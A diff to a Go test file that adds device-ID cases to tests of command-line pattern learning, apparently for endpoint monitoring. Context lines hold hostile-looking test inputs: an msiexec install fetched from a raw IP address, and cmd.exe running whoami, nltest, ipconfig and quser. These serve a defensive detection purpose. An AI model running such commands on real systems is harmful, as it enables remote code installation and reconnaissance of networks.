@@ -44,6 +44,7 @@ func TestLearnt(t *testing.T) {
 		{`agent.exe -o c:\%s\x --site=%s`, []string{"s101a", "s202b", "s303c"}, `agent.exe -o c:\<*>\x --site=<*>`},
 		{`agent.exe --id=ab-%s-12345`, serials, `agent.exe --id=ab-<*>`},
 		{`c:\temp\%s.exe`, []string{"k3j9x2q", "x8q1z7p", "b4n6m2v"}, `c:\temp\<*>.exe`},
+		{`agent.exe --device %s`, []string{"34790724", "46372012", "DR72DN1", "U6RV8HY", "X4UHNNQ", "Z5AZCV3", "ZS99QFY", "48873267"}, `agent.exe --device <*>`},
 		{`agent.exe --id=%s`, []string{"5f3a9c01", "12345678", "0a1b2c3d", "99887766"}, `agent.exe --id=<*>`},
 	} {
 		for final := range finals(fleet(c.command, c.values...)) {
@@ -73,6 +74,7 @@ func TestNotLearnt(t *testing.T) {
 		`rundll32.exe acme.dll,%s`:                      {"run1", "start2", "stop3"},
 		`tool1.exe two`:                                 {"", ""},
 		`agent.exe --serial=%s`:                         {"a1b2", "c3d4"}, // two devices show nothing
+		`agent.exe --device %s`:                         {"34790724", "46372012", "48873267", "48873299", "50987123", "monitor", "x4uhnnq"},
 		`msiexec /i http://45.9.148.%s/x`:               {"1", "2", "3", "4"},
 		`c:\windows\system32\cmd.exe /c %s -x & exit 0`: {"whoami", "nltest", "ipconfig", "quser"},
 	} {
